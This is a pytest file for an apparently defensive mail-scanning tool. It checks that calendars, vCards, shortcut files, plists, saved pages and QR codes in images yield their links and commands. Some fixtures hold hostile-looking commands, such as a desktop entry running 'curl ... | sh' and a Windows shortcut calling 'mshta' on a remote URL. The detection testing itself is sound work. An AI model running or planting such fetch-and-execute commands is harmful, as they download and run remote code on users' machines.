"""Calendars, cards, shortcuts and codes in images."""

from __future__ import annotations

import base64
import io
import plistlib
from dataclasses import replace

import PIL.Image
import pytest
from fixtures.bombs import claimed
from fixtures.built_documents import TYPES, docx, odt, pages, stream
from fixtures.built_mail import decision, mixed, part, report, source, zipped
from fixtures.small_cases import SMALL, code, lnk

from tqimap_processor.openers import open_artefact, qr
from tqimap_processor.walk import walk
from tqimap_shared.settings import Limits


LINK = "https://qr-place.com/login"
CODE = code(LINK)
ATTACHED = b"/Names << /EmbeddedFiles << /Names [(a) << /F (a.png) /EF << /F 6 0 R >> >>] >> >>"


def _spans(kind: str, data: bytes) -> list[tuple[str, str]]:
    return [(one.where, one.text) for one in open_artefact(kind, source(data)).spans]


@pytest.mark.opens("calendar")
def test_calendar_is_unfolded() -> None:
    """Lines are joined, escapes undone, each property named with its component."""
    data = (
        b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nDESCRIPTION:join http://long\r\n"
        b' -place.com/a\\, now\\nplease\r\nORGANIZER;CN="A: B":mailto:x@some-place.com\r\n'
        b"END:VEVENT\r\nBEGIN:VEVENT\nURL;X=1:http://b.com/\nEND:VEVENT\nEND:VCALENDAR"
    )
    assert _spans("calendar", data) == [
        ("VEVENT 1 DESCRIPTION", "join http://long-place.com/a, now\nplease"),
        ("VEVENT 1 ORGANIZER", "mailto:x@some-place.com"),
        ("VEVENT 1 ORGANIZER parameters", 'CN="A: B"'),
        ("VEVENT 2 URL", "http://b.com/"),
        ("VEVENT 2 URL parameters", "X=1"),
    ]


def test_files_in_calendars_and_cards_are_children() -> None:
    """Inline attachments and photographs come out with their claimed type and name."""
    inline = base64.b64encode(b"%PDF-1.4").decode()
    data = (
        "BEGIN:VCALENDAR\r\nATTACH;FMTTYPE=application/pdf;ENCODING=BASE64;VALUE=BINARY;"
        f"X-FILENAME=a.pdf:{inline[:4]}\r\n {inline[4:]}\r\nEND:VCALENDAR"
    )
    (child,) = open_artefact("calendar", source(data.encode())).children
    assert (child.name, child.data, child.declared_type) == (
        "a.pdf",
        b"%PDF-1.4",
        "application/pdf",
    )
    card = f"BEGIN:VCARD\r\nPHOTO:data:application/pdf;base64,{inline}\r\nEND:VCARD"
    (child,) = open_artefact("vcard", source(card.encode())).children
    assert (child.data, child.how) == (b"%PDF-1.4", "property-photo")
    broken = b"BEGIN:VCARD\r\nPHOTO;ENCODING=b:!\r\nNOTE:x\r\nEND:VCARD"
    assert open_artefact("vcard", source(broken)).children == ()


@pytest.mark.opens("vcard")
def test_old_card_is_quoted_printable() -> None:
    """Version 2.1 breaks lines softly, and the link is whole again."""
    data = (
        b"BEGIN:VCARD\r\nNOTE;ENCODING=QUOTED-PRINTABLE;CHARSET=UTF-8:http://some=2D=\r\n"
        b"place.com/\r\nitem1.URL:http://b.com\r\nEND:VCARD"
    )
    spans = _spans("vcard", data)
    assert ("VCARD 1 NOTE", "http://some-place.com/") in spans
    assert ("VCARD 1 URL", "http://b.com") in spans


def test_many_properties_stay_within_the_budgets() -> None:
    """A calendar of nothing but lines is cut at the text that an artefact may have."""
    data = b"BEGIN:VCALENDAR\r\n" + b"X:aaaaaaaaaa\r\n" * 1_000
    limited = replace(source(data), limits=Limits(artefact_text=1_000))
    opened = open_artefact("calendar", limited)
    assert sum(len(one.text) for one in opened.spans) <= 1_000
    assert [one.kind for one in opened.problems] == ["truncated-text"]


@pytest.mark.opens("url", "desktop", "iqy")
def test_shortcuts_have_their_keys_as_places() -> None:
    """What a link file leads to, runs or shows is found under its key."""
    data = (
        b"[InternetShortcut]\r\nURL=file://evil-place.com/a.js\r\nIconFile=\\\\1.2.3.4\\i.ico\r\n"
    )
    assert _spans("url", data) == [
        ("line 1", "[InternetShortcut]"),
        ("URL", "file://evil-place.com/a.js"),
        ("IconFile", "\\\\1.2.3.4\\i.ico"),
    ]
    assert _spans("desktop", b"[Desktop Entry]\nExec=curl http://a.com/x|sh\n")[1] == (
        "Exec",
        "curl http://a.com/x|sh",
    )
    assert _spans("iqy", b"WEB\n1\nhttp://a.com/q\n")[2] == ("line 3", "http://a.com/q")


@pytest.mark.opens("plist")
def test_property_list_has_paths() -> None:
    """The strings of a .webloc stand where its keys and numbers lead."""
    data = plistlib.dumps({"URL": "http://a.com/", "more": ["b.com", 1]}, fmt=plistlib.FMT_BINARY)
    assert _spans("plist", data) == [("$.URL", "http://a.com/"), ("$.more[0]", "b.com")]


@pytest.mark.opens("mhtml")
def test_saved_page_is_opened() -> None:
    """A page and what it shows come out of the one file, and its link is found in the page."""
    page = part(b"<a href=http://in-page.com/x>", "text/html")
    whole = mixed(page, part(b"GIF89a", "image/gif", "Content-Location: http://img.com/a.gif"))
    saved = whole[whole.index(b"MIME-Version") :]
    tree = walk(mixed(part(saved, "application/octet-stream", name="a.mht")), Limits())
    assert [one.kind for one in tree[1:]] == ["mhtml", "html", "gif"]
    assert ("part 2 header content-location", "http://img.com/a.gif") in [
        (one.where, one.text) for one in tree[1].spans
    ]
    assert ("a@href", "http://in-page.com/x") in [(one.where, one.text) for one in tree[2].spans]


def test_property_list_that_holds_itself_ends() -> None:
    """Objects that repeat themselves thousands of times are read within the budgets."""
    inner: list[object] = ["http://a.com/"]
    for _ in range(40):
        inner = [inner, inner]
    opened = open_artefact("plist", source(plistlib.dumps(inner, fmt=plistlib.FMT_BINARY)))
    assert not opened.problems
    broken = open_artefact("plist", source(b"bplist00" + b"\xff" * 40))
    assert [one.kind for one in broken.problems] == ["malformed"]


@pytest.mark.opens("lnk")
def test_windows_shortcut_tells_its_arguments_and_what_is_appended() -> None:
    """The command line has its place, and text behind the structure is found too."""
    data = lnk("..\\cmd.exe", "/c mshta http://some-place.com/x", b"http://appended.com/y ")
    spans = _spans("lnk", data)
    assert ("data command_line_arguments", "/c mshta http://some-place.com/x") in spans
    assert any("http://appended.com/y" in text for _, text in spans)
    outcome = report(mixed(part(data, "application/octet-stream", name="a.lnk")))
    assert {"some-place.com", "appended.com"} <= {one.value for one in outcome.decisions}


def test_broken_windows_shortcut_still_yields_its_text() -> None:
    """A structure that lies costs its names only."""
    data = lnk("a", "b")[:76] + b"\xff\xff" + "http://some-place.com/".encode("utf-16-le")
    opened = open_artefact("lnk", source(data))
    assert any("http://some-place.com/" in one.text for one in opened.spans)


def test_code_in_an_image_is_found_with_its_place() -> None:
    """A link that only a telephone reads is a finding like any other."""
    raw = mixed(part(code("https://qr-place.com/login"), "image/png", name="a.png"))
    (one,) = [one for one in report(raw).decisions if one.type == "URL"]
    assert (one.value, one.found[0].where) == ("https://qr-place.com/login", "code 1 (QRCode)")


@pytest.mark.opens(*qr.KINDS)
@pytest.mark.parametrize("kind", qr.KINDS)
def test_code_is_read_in_each_format(kind: str) -> None:
    """Every kind of image that mail programs show is searched."""
    assert _spans(kind, SMALL[kind]) == [("code 1 (QRCode)", "http://some-place.com/")]


def test_code_on_transparent_ground_is_found() -> None:
    """Transparent pixels are white, as a mail program shows them."""
    image = PIL.Image.open(io.BytesIO(code("https://qr-place.com/")))
    grey = image.convert("L")
    clear = PIL.Image.new("RGBA", image.size, (0, 0, 0, 0))
    clear.putalpha(grey.point([255 - value for value in range(256)]))
    out = io.BytesIO()
    clear.save(out, "PNG")
    assert _spans("png", out.getvalue()) == [("code 1 (QRCode)", "https://qr-place.com/")]


@pytest.mark.parametrize("side", [6_000, 30_000, 2**31 - 1])
def test_huge_image_is_not_decoded(side: int) -> None:
    """The claimed size alone decides, before a pixel is read."""
    opened = open_artefact("png", source(claimed("png", side)))
    assert (opened.spans, [one.kind for one in opened.problems]) == ((), ["too-large"])


def test_images_beyond_the_count_are_not_searched() -> None:
    """The number of images searched in a mail is limited, and said."""
    parts = [part(code(f"https://n{n}.com/"), "image/png", name="a.png") for n in range(3)]
    tree = walk(mixed(*parts), Limits(images=2))
    assert [len(one.spans) for one in tree[1:]] == [1, 1, 0]
    assert [one.kind for one in tree[3].problems] == ["too-many"]


@pytest.mark.parametrize(
    ("document", "artefact"),
    [
        (docx("", ("word/media/image1.png", CODE)), "1.1"),
        (zipped(TYPES, ("xl/workbook.xml", b"<a/>"), ("xl/media/image1.png", CODE)), "1.1"),
        (odt("", ("Pictures/1.png", CODE)), "1.1"),
        (pages(b"", catalog=ATTACHED, more=(stream(b"/Type /EmbeddedFile", CODE),)), "1.1"),
        (zipped(("a.docx", docx("", ("word/media/1.jpg", code(LINK, "JPEG"))))), "1.1.1"),
    ],
    ids=["docx", "xlsx", "odt", "pdf", "docx in zip"],
)
def test_code_in_a_document_is_found(document: bytes, artefact: str) -> None:
    """An image is searched wherever it lies."""
    outcome = report(mixed(part(document, "application/octet-stream", name="a")))
    place = decision(outcome, LINK).found[0]
    assert (place.artefact, place.where) == (artefact, "code 1 (QRCode)")


@pytest.mark.opens("heif")
def test_image_that_cannot_be_decoded_says_so() -> None:
    """Nobody takes it for searched."""
    opened = open_artefact("heif", source(b"\0\0\0\x18ftypheic"))
    assert [(one.kind, one.detail) for one in opened.problems] == [
        ("unsupported", "HEIC: not searched for codes")
    ]


def test_shortcut_that_breaks_off_still_shows_its_text() -> None:
    """A network location without an end is a problem, and what is readable beside it is read."""
    head = b"L" + bytes(8) + b"\xff" * 7 + b"\5\0\0\0\1" + b"\xcc" * 5 + b"\xa5L" + bytes(11)
    data = head + b"\1" + b"\xcc" * 5 + b"\xa5" + b"\xcc" * 44 + b" http://some-place.com/"
    opened = open_artefact("lnk", source(data))
    assert [one.kind for one in opened.problems] == ["malformed"]
    assert any("http://some-place.com/" in one.text for one in opened.spans)
